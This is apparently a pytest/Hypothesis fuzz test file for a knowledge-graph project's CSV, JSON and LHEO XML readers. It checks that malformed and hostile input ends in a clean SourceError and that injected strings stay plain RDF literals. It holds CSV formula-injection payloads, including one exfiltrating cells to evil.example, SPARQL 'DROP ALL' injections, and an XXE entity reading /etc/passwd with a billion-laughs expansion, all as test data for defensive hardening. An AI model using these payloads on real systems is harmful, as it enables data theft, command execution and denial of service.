"""Bad and hostile input, property-based: every reader of ``kg/sources`` given random bytes,
truncated files, wrong encodings, huge fields, hostile XML and CSV-injection strings ends in
records or a :class:`~kg.errors.SourceError` — never another exception, never a hang — and an
injection string mapped into the graph stays a plain literal.

CI runs few examples per property (profile ``ci``, the default); a long run is a benchmark::

    .venv/bin/pytest tests/test_fuzz_readers.py --hypothesis-profile=long   # 2,000 examples each
"""

from __future__ import annotations

import json
import signal
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pyoxigraph as ox
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kg.errors import SourceError
from kg.mapping import Mapping, MappingRunner, MappingStats
from kg.sources.records import read_records
from tests.conftest import TEST_BASE
from tests.reliability_log import log_outcome

NS23 = "http://lheo.gouv.fr/2.3"
HANG_S = 20  # a reader that takes longer on a file of a few kB is hung
# Every reader, with the options its sources use (LHEO: with and without the XSD when present).
READERS: dict[str, tuple[str, dict[str, str]]] = {
    "csv": ("csv", {}),
    "csv-semicolon": ("csv", {"delimiter": ";", "columns": "code label"}),
    "json": ("json", {}),
    "jsonl": ("jsonl", {}),
    "lheo": ("lheo", {"validate": "none"}),
    "lheo-xsd-auto": ("lheo", {}),
}
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "javascript:alert(1)",
    "<script>alert(1)</script>",
    '" } ; DROP ALL ; INSERT DATA { <http://evil> <http://evil> "x" } #',
    "http://evil.example/x> . <http://a> <http://b> <http://c",
    '\\" } UNION { ?s ?p ?o } \\',
]
SUFFIX = {"csv": ".csv", "json": ".json", "jsonl": ".jsonl", "lheo": ".xml"}


class Hung(Exception):
    pass


@contextmanager
def _hang_guard(seconds: int = HANG_S) -> Iterator[None]:
    """Fail (rather than block the test run) when a reader does not return in time."""

    def _alarm(signum: int, frame: object) -> None:
        raise Hung(f"reader still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, _alarm)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def outcome(reader: str, data: bytes, strategy: str) -> list[dict[str, str | None]] | SourceError:
    """Read ``data`` with ``reader``: its records' values, or the SourceError it raised. Any other
    exception propagates (and fails the test)."""
    fmt, options = READERS[reader]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "input" + SUFFIX[fmt])
        path.write_bytes(data)
        try:
            with _hang_guard():
                records = [r.values for r in read_records(path, fmt, options)]
        except SourceError as error:
            assert str(error).startswith(str(path)), error  # names the file
            assert error.rule and "\n" not in str(error), error  # one line, with the rule
            log_outcome("fuzz", reader=reader, strategy=strategy, outcome="SourceError")
            return error
        except Exception as error:
            log_outcome("fuzz", reader=reader, strategy=strategy, outcome=type(error).__name__)
            raise
    log_outcome("fuzz", reader=reader, strategy=strategy, outcome="records")
    return records


# --- well-formed documents, to truncate, re-encode and fill with hostile cells -----------------

cells = st.text(alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=40)
hostile_cells = st.one_of(cells, st.sampled_from(INJECTIONS))
rows = st.lists(st.tuples(hostile_cells, hostile_cells), min_size=1, max_size=8)


def _csv_doc(content: list[tuple[str, str]], delimiter: str) -> str:
    def quote(cell: str) -> str:
        return '"' + cell.replace('"', '""') + '"'

    lines = [f"code{delimiter}label"] + [f"{quote(a)}{delimiter}{quote(b)}" for a, b in content]
    return "\n".join(lines) + "\n"


def _xml_text(text: str) -> str:
    # XML 1.0 forbids most control characters even escaped: they are a malformed document.
    clean = "".join(c for c in text if c in "\t\n\r" or ord(c) >= 0x20)
    return clean.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _lheo_doc(content: list[tuple[str, str]]) -> str:
    formations = "".join(
        f'<formation numero="F{i}"><intitule-formation>{_xml_text(a)}</intitule-formation>'
        f'<action numero="A{i}"><session numero="S{i}"><periode><debut>{_xml_text(b)}</debut>'
        "</periode></session></action></formation>\n"
        for i, (a, b) in enumerate(content)
    )
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<lheo xmlns="{NS23}"><offres>\n'
    return f"{head}{formations}</offres></lheo>\n"


def document(reader: str, content: list[tuple[str, str]]) -> str:
    """A well-formed document of ``reader``'s format holding ``content`` (code, label) pairs."""
    fmt = READERS[reader][0]
    if fmt == "csv":
        return _csv_doc(content, READERS[reader][1].get("delimiter", ","))
    objects = [{"code": a, "label": b} for a, b in content]
    if fmt == "json":
        return json.dumps(objects, ensure_ascii=False)
    if fmt == "jsonl":
        return "".join(json.dumps(o, ensure_ascii=False) + "\n" for o in objects)
    return _lheo_doc(content)


def _profile() -> Any:
    """The budget of the loaded profile (``ci`` unless ``--hypothesis-profile`` chose another)."""
    return settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


ALL = pytest.mark.parametrize("reader", list(READERS))


@ALL
@_profile()
@given(data=st.binary(max_size=2048))
def test_random_bytes(reader: str, data: bytes) -> None:
    outcome(reader, data, "random bytes")


@ALL
@_profile()
@given(content=rows, cut=st.floats(min_value=0.0, max_value=1.0))
def test_truncated_file(reader: str, content: list[tuple[str, str]], cut: float) -> None:
    whole = document(reader, content).encode("utf-8")
    outcome(reader, whole[: int(len(whole) * cut)], "truncated file")


@ALL
@_profile()
@given(content=rows, encoding=st.sampled_from(["cp1252", "latin-1", "utf-16", "utf-32", "cp037", "utf-7"]))
def test_wrong_encoding(reader: str, content: list[tuple[str, str]], encoding: str) -> None:
    data = document(reader, content).encode(encoding, errors="replace")
    result = outcome(reader, data, "wrong encoding")
    if encoding in ("utf-16", "utf-32", "cp037") and READERS[reader][0] != "lheo":
        # not ASCII-compatible: never read as UTF-8 text (XML may declare or detect it)
        assert isinstance(result, SourceError), result


@ALL
@_profile()
@given(
    size=st.integers(min_value=100_000, max_value=300_000), char=st.sampled_from(["x", "é", "€", '"', ";"])
)
def test_huge_field(reader: str, size: int, char: str) -> None:
    huge = char * size
    result = outcome(reader, document(reader, [("A1", huge), ("B2", "fin")]).encode(), "huge field")
    if isinstance(result, list):  # read in full, never cut silently
        values = [v for r in result for v in r.values()]
        # an XSD-invalid formation is one quarantine record (the build quarantines it)
        assert huge.strip() in values or all("xsd_error" in r for r in result)


@ALL
@_profile()
@given(content=rows)
def test_injection_strings_read_verbatim(reader: str, content: list[tuple[str, str]]) -> None:
    result = outcome(reader, document(reader, content).encode(), "CSV injection strings")
    if READERS[reader][0] == "lheo":
        assert isinstance(result, list)  # its text is escaped above: always well-formed
        return
    assert isinstance(result, list), result
    expected = [((a.strip() or None), (b.strip() or None)) for a, b in content]
    assert [(r.get("code"), r.get("label")) for r in result] == expected


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE lheo [<!ENTITY secret SYSTEM "file:///etc/passwd">
<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
]>
<lheo xmlns="http://lheo.gouv.fr/2.3"><offres><formation numero="F1">
<intitule-formation>&secret;&f;</intitule-formation>
<action numero="A1"><session numero="S1"/></action></formation></offres></lheo>
"""


@pytest.mark.parametrize("reader", ["lheo", "lheo-xsd-auto"])
def test_hostile_xml_entities_neither_read_files_nor_explode(reader: str) -> None:
    """An external entity (XXE) and a billion-laughs expansion: no local file content, no blow-up."""
    result = outcome(reader, XXE, "hostile XML entities")
    if isinstance(result, list):
        text = json.dumps(result)
        assert "root:" not in text and len(text) < 100_000


# --- through a mapping: a hostile cell stays a plain literal ----------------------------------

MAPPING = """#+ summary: a label per code, for the injection tests
#+ format: csv
CONSTRUCT {
  ?e a pas:Occupation ; pas:code ?code ; skos:prefLabel ?label_fr ; rdfs:comment ?label ;
     pas:sourceRow ?_row .
} WHERE {
  BIND(IRI(CONCAT(STR(id:), "rome/", ENCODE_FOR_URI(?code))) AS ?e)
  BIND(STRLANG(?label, "fr") AS ?label_fr)
}
"""


def _map(records: list[dict[str, str | None]]) -> list[ox.Triple]:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "injection.rq")
        path.write_text(MAPPING, encoding="utf-8")
        runner = MappingRunner(Mapping.load(path), TEST_BASE)
        from kg.sources.records import Record

        stream = (Record(n, v) for n, v in enumerate(records, start=1))
        triples = []
        for chunk in runner.run(stream, MappingStats()):
            triples += [q.triple for q in ox.parse(chunk, format=ox.RdfFormat.N_TRIPLES)]
        return triples


@_profile()
@given(content=rows)
def test_injection_string_stays_a_plain_literal(content: list[tuple[str, str]]) -> None:
    records = [{"code": a.strip() or None, "label": b.strip() or None} for a, b in content]
    triples = _map(records)
    label_values = {r["label"] for r in records if r["label"] and r["code"]}
    comments = [t.object for t in triples if t.predicate.value.endswith("#comment")]
    literals = {c.value for c in comments if isinstance(c, ox.Literal)}
    assert all(isinstance(c, ox.Literal) for c in comments)
    assert literals == label_values  # each label once, verbatim, as a literal
    for triple in triples:
        if isinstance(triple.object, ox.NamedNode):  # the only IRIs: the class and encoded codes
            assert triple.object.value.startswith(("https://w3id.org/", "http://www.w3.org/")), triple
        if triple.predicate.value.endswith("#comment"):
            assert isinstance(triple.object, ox.Literal)
    for triple in triples:  # subjects only from the base, whatever the code held
        assert isinstance(triple.subject, ox.NamedNode)
        assert triple.subject.value.startswith(TEST_BASE + "id/rome/")
        assert not set(triple.subject.value[len(TEST_BASE) :]) & set(' <>"{}|\\^`')


@pytest.mark.parametrize("injection", INJECTIONS)
def test_each_injection_string_in_a_csv_is_mapped_verbatim(tmp_path: Path, injection: str) -> None:
    """The known payloads, end to end: CSV file → reader → mapping → one literal, unchanged."""
    path = tmp_path / "input.csv"
    path.write_text(_csv_doc([("A1", injection), (injection, "x")], ","), encoding="utf-8")
    records = [r.values for r in read_records(path, "csv", {})]
    triples = _map(records)
    comments = [t.object for t in triples if t.predicate.value.endswith("#comment")]
    assert [c.value for c in comments if isinstance(c, ox.Literal)] == [injection.strip(), "x"]
    assert all(isinstance(c, ox.Literal) for c in comments)


# Cases the properties above reached rarely or never, each once a crash (ValueError,
# RecursionError, or a UnicodeEncodeError in the mapping): now a SourceError naming the rule.
EDGE_CASES = [
    ("csv", b"code,!!!\nA1,x\n", "unusable header"),
    ("csv", b"code,,label\nA1,x,y\n", "unusable header"),
    ("csv", b"code,label\nA1," + b"x" * 200_000 + b"\n", "field larger than field limit"),
    ("json", b'[{"!!": 1}]', "unusable key"),
    ("json", b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    ("json", b'[{"a": ' + b"1" * 5000 + b"}]", "4300 digits"),
    ("json", b'[{"a": "\\ud800"}]', "half a surrogate pair"),
    ("jsonl", b'{"a": ' + b"1" * 5000 + b"}\n", "4300 digits"),
    ("jsonl", b'{"a":' + b'{"b":' * 3000 + b"1" + b"}" * 3001 + b"\n", "nested too deeply"),
    ("jsonl", b'{"ok": 1}\n{"a": "x\\udc00y"}\n', "line 2: invalid JSON: a \\u escape"),
]


@pytest.mark.parametrize(("fmt", "data", "rule"), EDGE_CASES, ids=[f"{c[0]} {c[2]}" for c in EDGE_CASES])
def test_edge_cases_end_in_a_source_error(fmt: str, data: bytes, rule: str) -> None:
    result = outcome(fmt, data, "edge cases")
    assert isinstance(result, SourceError) and rule in str(result), result


@_profile()
@given(values=st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_json_escapes_never_reach_the_mapping_as_bad_text(values: list[str]) -> None:
    """Any string JSON can escape (lone surrogates included): read and mapped, or refused."""
    data = json.dumps([{"code": f"A{i}", "label": v} for i, v in enumerate(values)]).encode()
    result = outcome("json", data, "JSON escapes through a mapping")
    if isinstance(result, list):
        _map(result)
